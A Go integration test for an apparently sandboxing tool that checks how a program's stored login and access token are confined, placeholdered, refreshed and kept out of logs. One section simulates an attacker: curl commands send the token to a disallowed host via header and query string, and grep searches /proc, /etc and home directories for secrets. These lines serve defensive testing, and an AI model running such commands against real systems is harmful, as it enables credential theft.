package tools

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/scopefs/scopefs/audit"
	"github.com/scopefs/scopefs/integration/harness"
	"github.com/scopefs/scopefs/internal/need"
)

// TestLogin: a program without a key uses the login of its user's HOME. The hosts of its rules get the access token, which is
// refreshed outside; the sandbox has a placeholder, and nothing else of the login.
func TestLogin(t *testing.T) {
	t.Parallel()
	need.Program(t, "curl")
	const variable = "SCOPEFS_TEST_NO_KEY"
	type request struct{ path, bearer, key string }
	seen := make(chan request, 100)
	at, ca := secureServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Host == "api.test" {
			seen <- request{r.URL.Path, r.Header.Get("Authorization"), r.Header.Get("X-Api-Key")}
		} else {
			assert.NotContains(t, r.Header.Get("Authorization"), "sesame")
		}
		fmt.Fprintf(w, "you said %s\n", r.Header.Get("Authorization"))
	}, "api.test", "other.test")
	var refused atomic.Bool
	issuer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if refused.Load() {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprint(w, `{"error": "invalid_grant"}`)
			return
		}
		fmt.Fprint(w, `{"access_token": "sesame-access-2222", "refresh_token": "sesame-refresh-2222", "expires_in": 3600}`)
	}))
	t.Cleanup(issuer.Close)
	h := harness.LayOut(t, nil)
	place := fmt.Sprintf("address: '%s', ca: %q", at, ca)
	h.Put("presets.d/sub.yaml", fmt.Sprintf("description: x\nallow:\n  - {host: api.test, %s, credential: {header: x-api-key, from: {env: %s}}}\n  - {host: api.test, %s, paths: ['/v1/**'], login: shell}\n",
		place, variable, place))
	h.Put("programs.d/shell.yaml", fmt.Sprintf(`command: sh
network: [sub]
args: [-b]
prepare: test -z "$SCOPEFS_LOGIN" && cp ~/.fake/auth.json ~/seen || true
login: {file: .fake/auth.json, remedy: run fake login, access: o.access, refresh: o.refresh, expires: o.expires, keep: [o.plan],
  set: {o.expires: 4102444800000}, url: %s, client: c1, args: [-C], env: {LOGGED_IN: "1"}}
`, issuer.URL))
	h.Define("a", fmt.Sprintf("network: {presets: [sub], allow: [{host: other.test, %s, intercept: true}]}", place))
	h.Start()
	home := t.TempDir()
	file := filepath.Join(home, ".fake/auth.json")
	require.NoError(t, os.Mkdir(filepath.Dir(file), 0o700))
	login := func(left time.Duration) {
		require.NoError(t, os.WriteFile(file, fmt.Appendf(nil, `{"o": {"access": "sesame-access-1111", "refresh": "sesame-refresh-1111", "expires": %d, "plan": "max"}, "others": "sesame-others"}`,
			time.Now().Add(left).UnixMilli()), 0o600))
	}
	run := func(env string, words ...string) harness.Outcome {
		cmd := exec.Command(harness.Program, append([]string{"--base", h.Base, "run", "a"}, words...)...)
		cmd.Env = append(os.Environ(), "HOME="+home, env)
		return harness.Finish(t, cmd)
	}
	shell := func(script string) harness.Outcome { return run("X=1", "--for", "shell", "--", "-c", script) }

	next := func() request {
		require.NotEmpty(t, seen)
		return <-seen
	}

	o := shell("true")
	assert.Equal(t, 125, o.Code)
	assert.Contains(t, o.Stderr, "shell: no login in "+file+": run fake login (and no key: the key of api.test cannot be read: env: "+variable+" is not set")

	login(time.Hour)
	token := `t=$(sed -n 's/.*"access": "\(.*\)".*/\1/p' ~/.fake/auth.json); `
	o = shell(token + `echo $LOGGED_IN $- $t; cat ~/seen; echo "[$` + variable + `]"; curl -sS https://api.test/v1/x -H "Authorization: Bearer $t" -H "x-api-key: mine"`)
	require.Zero(t, o.Code, o.Stderr)
	assert.Regexp(t, `^1 \w*C\w* scopefs-secret-`, o.Stdout)
	assert.Contains(t, o.Stdout, `"plan": "max"`)
	assert.Contains(t, o.Stdout, "4102444800000")
	assert.Contains(t, o.Stdout, "[]\n", "no variable of the key that is not used")
	assert.Contains(t, o.Stdout, "you said "+strings.Repeat("*", len("Bearer sesame-access-1111")))
	assert.NotContains(t, o.Stdout, "sesame")
	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-1111", ""}, next())

	// An attacker: other paths and hosts, and where a token could be.
	o = shell(token + `curl -sS https://api.test/keys; curl -sS https://other.test/ -H "Authorization: Bearer $t"; curl -sS "https://other.test/?$t"
curl -sS https://api.test/v1/mine -H 'Authorization: Bearer mine' | tr -d '*'
grep -rsl '[s]esame-' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /run /tmp /home ~ /workspace; ls ` + file + `; env | grep '[s]esame'; echo searched`)
	assert.Contains(t, o.Stdout, "GET https://api.test/keys is not allowed")
	assert.Equal(t, 2, strings.Count(o.Stdout, "placeholder of another host"), o.Stdout)
	assert.Contains(t, o.Stdout, "searched")
	assert.NotContains(t, o.Stdout+o.Stderr, "sesame")
	assert.NotContains(t, o.Stdout, "/proc/")
	assert.Contains(t, o.Stderr, "No such file")
	assert.Equal(t, request{"/v1/mine", "Bearer sesame-access-1111", ""}, next(), "nobody sends requests under a login of his own")
	assert.Empty(t, seen)

	// A run without the program has no login, and one with a key uses that.
	o = run("X=1", "--", "sh", "-c", "curl -sS https://api.test/v1/x; ls -A ~")
	assert.Contains(t, o.Stdout+o.Stderr, "env: "+variable+" is not set")
	assert.NotContains(t, o.Stdout, ".fake")
	o = run(variable+"=sesame-key-1111", "--for", "shell", "--", "-c", "curl -sS https://api.test/v1/x; echo [$LOGGED_IN]; ls ~/.fake")
	assert.Contains(t, o.Stdout, "[]\n")
	assert.Equal(t, request{"/v1/x", "", "sesame-key-1111"}, next())

	// The token ends: the daemon refreshes it, and writes the file.
	login(-time.Minute)
	o = shell("curl -sS https://api.test/v1/x")
	assert.Equal(t, request{"/v1/x", "Bearer sesame-access-2222", ""}, next(), o.Stderr)
	text := harness.ReadAll(t, file)
	for _, want := range []string{"sesame-access-2222", "sesame-refresh-2222", "sesame-others"} {
		assert.Contains(t, text, want)
	}
	refused.Store(true)
	login(-time.Minute)
	o = shell("curl -sS https://api.test/v1/x")
	assert.Contains(t, o.Stderr, "the login of shell has expired and cannot be refreshed: "+issuer.Listener.Addr().String()+": the login has ended (status 400, invalid_grant): run fake login")
	assert.NotContains(t, o.Stdout+o.Stderr, "sesame")
	assert.Empty(t, seen)

	assert.NotContains(t, h.Must("audit", "--json"), "sesame")
	h.Stop()
	assert.NotContains(t, h.Log.String(), "sesame")
	assert.True(t, h.Recorded("a", audit.Event{Event: audit.KindNetwork, Op: "refresh", Target: "POST " + issuer.URL, Outcome: "end"}))
	assert.True(t, h.Recorded("a", audit.Event{Event: audit.KindNetwork, Op: "refresh", Target: "POST " + issuer.URL, Outcome: "failed"}))
}
